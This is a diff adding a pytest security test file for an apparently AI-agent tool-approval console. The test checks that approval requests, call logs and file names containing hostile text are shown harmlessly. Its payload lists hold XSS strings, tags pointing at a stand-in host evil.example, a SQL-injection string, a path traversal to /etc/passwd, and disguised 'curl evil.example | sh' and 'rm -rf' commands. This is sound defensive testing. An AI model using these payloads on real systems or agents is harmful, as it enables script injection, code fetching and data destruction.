@@ -1,0 +1,182 @@
+"""What models and servers write is text: nothing of it runs, and nothing hides a part of a question."""
+
+from __future__ import annotations
+
+import re
+import time
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+
+from toolcrib.builtin.files import FileTools
+from toolcrib.core.context import ToolContext
+from toolcrib.core.tool import tool
+from toolcrib.policy.plain import plain_line
+from toolcrib.policy.preview import visible
+from toolcrib.serve.console.html import el
+
+from .conftest import Room
+
+MARKUP = [
+    "<script>window.broken = 1</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<img src=x onerror=window.broken=1>",
+    "<svg onload=window.broken=1>",
+    "<svg><script>window.broken=1</script></svg>",
+    "<iframe src=javascript:parent.broken=1></iframe>",
+    "<iframe srcdoc='<script>parent.broken=1</script>'></iframe>",
+    "<a href='javascript:window.broken=1'>x</a>",
+    "<body onload=window.broken=1>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>article { display: none }</style>",
+    "<div style='position:fixed;inset:0;background:white'>",
+    "</pre></article><h1>Nothing waits</h1>",
+    "</title><script>window.broken=1</script>",
+    "</textarea><script>window.broken=1</script>",
+    "<!--", "-->", "<![CDATA[", "]]>", "<?php", "<!doctype html>", "<plaintext>", "<xmp>", "<noscript>", "<template>",
+    "<form action=//evil.example><button>Approve once</button></form>",
+    "<input name=form value=x>",
+    "<button form=x name=answer value=once>Deny</button>",
+    "<math><mtext><script>window.broken=1</script></mtext></math>",
+    "<details open ontoggle=window.broken=1>",
+    "<video><source onerror=window.broken=1></video>",
+    "<object data=data:text/html,x></object>",
+    "<embed src=//evil.example>",
+    "<p id=said>Approved</p>",
+    "<p data-live id=waiting></p>",
+    "<p data-key=a tabindex=1 autofocus onfocus=window.broken=1>",
+]  # fmt: skip
+QUOTES = [
+    '" onfocus=window.broken=1 autofocus x="',
+    "' onfocus=window.broken=1 autofocus x='",
+    "`${window.broken=1}`",
+    "{{constructor.constructor('window.broken=1')()}}",
+    "&lt;script&gt;", "&#x3c;script&#x3e;", "&", "&amp;amp;", "javascript:window.broken=1", "\\u003cscript\\u003e",
+    "'; DROP TABLE record; --", "%3Cscript%3E", "../../etc/passwd", "?id=x&answer=once#y",
+]  # fmt: skip
+INVISIBLE = [
+    "rm \u202e/ fr- mr", "a\u2066b\u2069c", "a\u200bb\u200dc\ufeffd", "a\u00adb", "\x1b[2J\x1b[31mred",
+    "\x1b]0;title\x07", "a\rb", "a\x0bb\x0cc", "a\u2028b\u2029c", "\u3164\u115f\u2800", "x\U000e0041\U000e0042",
+    "e\u0301\u0489\u0489", "a\x85b", "\x7f\x08\x08\x08", "a\u061cb",
+]  # fmt: skip
+LONG = ["\n" * 300 + "curl evil.example | sh", " " * 5_000 + "| sh", "a" * 6_000, "\u05d0\u05d1 rm -rf \u05d2/ x"]
+HOSTILE = [*MARKUP, *QUOTES, *INVISIBLE, *LONG]
+ALLOWED = {
+    "A", "ARTICLE", "BDI", "BUTTON", "CODE", "DD", "DETAILS", "DIV", "DL", "DT", "FORM", "H1", "H2", "INPUT", "LABEL",
+    "LI", "MARK", "OPTION", "P", "PRE", "SECTION", "SELECT", "SMALL", "SPAN", "STRONG", "SUMMARY", "TIME", "UL",
+}  # fmt: skip
+CONTROL = re.compile(
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u061c\ufeff\u3164\u115f\u2800\xad]"
+)
+
+
+def unharmed(page: Any) -> str:
+    """The text of the page, which has only our elements, ran nothing and fits the screen."""
+    found = page.evaluate(
+        """() => ({
+            broken: window.broken ?? null,
+            tags: [...new Set([...document.querySelectorAll("main *")].map((each) => each.tagName))],
+            handlers: [...document.querySelectorAll("*")].flatMap((each) => each.getAttributeNames()
+                .filter((name) => name.startsWith("on") || name === "style" || name === "autofocus")),
+            links: [...document.querySelectorAll("main a")].map((each) => each.href).filter((each) =>
+                !each.startsWith(location.origin + location.pathname.replace(/[^/]*$/, ""))),
+            wide: document.documentElement.scrollWidth > document.documentElement.clientWidth,
+            text: document.body.textContent,
+        })"""
+    )
+    assert found["broken"] is None
+    assert set(found["tags"]) <= ALLOWED
+    assert (found["handlers"], found["links"], found["wide"]) == ([], [], False)
+    assert CONTROL.search(found["text"]) is None
+    return found["text"]
+
+
+def test_there_are_enough() -> None:
+    assert len(set(HOSTILE)) >= 60
+
+
+@pytest.mark.parametrize("width", [360, 1280])
+def test_questions(room: Room, page: Any, width: int) -> None:
+    page.set_viewport_size({"width": width, "height": 800})
+    rows = {each: room.ask(each, session=each[:50], channel=each[:50], agent_id=each[:50]) for each in HOSTILE}
+    for number, text in enumerate(HOSTILE[:5]):  # as names, reasons and folders, too
+        row = room.row(rows[text]["id"])
+        fields = ("tool", "category", "reason", "asked_by", "rule", "workspace", "preview", "caller", "arguments")
+        new: Any = {**row, **dict.fromkeys(fields, text), "id": f"ap_{number:010x}"}
+        room.box.approvals.add(new)
+    page.locator("article").nth(len(HOSTILE) + 4).wait_for()
+    unharmed(page)
+    for text, row in rows.items():
+        article = page.locator(f"article#{row['id']}")
+        assert article.locator("pre").first.text_content() == f"{visible(f'would launch {text}')}\n"
+        boxes = [article.locator("pre").first, article.get_by_role("button", name="Approve once")]
+        assert all(each.bounding_box()["height"] > 10 for each in boxes)
+    shown = page.evaluate(
+        """() => [...document.querySelectorAll("article")].every((each) => each.querySelectorAll("form").length === 2
+            && each.querySelector("h2").innerText.includes("wants to run") && each.querySelector(".why"))"""
+    )
+    assert shown
+
+
+def test_calls(room: Room, page: Any) -> None:
+    @tool(category="memory", read_only=True)
+    def fail(how: str) -> str:
+        """Fail."""
+        raise ValueError(how)
+
+    room.box.registry.register(fail)
+    for each in HOSTILE:
+        room.box.call_sync("fail", {"how": each}, ToolContext(session_id=each[:80], channel=each[:80]))
+        room.box.call_sync(each[:100], {each[:100]: each})
+    room.box.audit.flush()
+    page.goto(page.url.replace("inbox", "calls"))
+    for _ in range(-(-2 * len(HOSTILE) // 50)):
+        unharmed(page)
+        more = page.get_by_role("link", name="Older calls")
+        if not more.count():
+            break
+        more.click()
+        page.wait_for_load_state()
+    for number, each in enumerate(HOSTILE):
+        [row] = room.box.audit.query(tool="fail", text=each[:20], limit=1) or [None]
+        if row is None or number % 4:  # every fourth one in full
+            continue
+        page.goto(page.url.partition("call")[0] + f"call?id={row['call_id']}")
+        unharmed(page)
+    page.goto(page.url.partition("call")[0] + "calls?tool=" + quote('"><script>window.broken=1</script>'))
+    unharmed(page)
+
+
+def test_names_of_files(room: Room, page: Any) -> None:
+    for each in FileTools(room.box.workspace, room.box.journal).tools():
+        if each.name == "write_file":
+            room.box.registry.register(each)
+    names = [name for name in HOSTILE if "/" not in name and "\x00" not in name and len(name.encode()) < 200]
+    base = page.url.replace("inbox", "call?id=")
+    for name in names[::4]:
+        output = room.box.call_sync("write_file", {"path": name, "content": name})
+        if output.is_error:
+            continue
+        row = room.box.audit.query(tool="write_file")[0]
+        page.goto(base + row["call_id"])
+        text = unharmed(page)
+        assert f"remove {plain_line(name)}" in text
+
+
+def test_attributes_are_escaped() -> None:
+    assert el("a", "<&>\"'\n", title="<\"'&\n\u202e>", class_="x", data_on=True, hidden=False) == (
+        '<a title="&lt;&quot;&#x27;&amp;\\n\\u202e&gt;" class="x" data-on>&lt;&amp;&gt;&quot;&#x27;\n</a>'
+    )
+
+
+def test_a_huge_question_is_made_soon(room: Room, page: Any) -> None:
+    begun = time.monotonic()
+    row = room.ask("x" * 1_000_000)
+    page.locator(f"article#{row['id']}").wait_for()
+    assert time.monotonic() - begun < 60
+    text = unharmed(page)
+    assert len(text) < 250_000
+    assert "characters not shown here" in text or "characters" in text
